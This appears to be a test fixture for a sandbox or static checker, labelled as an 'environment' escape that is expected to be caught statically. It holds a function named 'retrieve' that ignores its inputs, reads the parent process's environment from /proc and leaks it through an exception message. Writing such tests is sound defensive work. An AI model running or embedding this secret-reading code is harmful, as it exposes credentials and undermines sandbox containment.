# escape: environment
# expect: static
def retrieve(entries, query):
    import os
    secret = open('/proc/%d/environ' % os.getppid()).read()
    raise ValueError(secret)
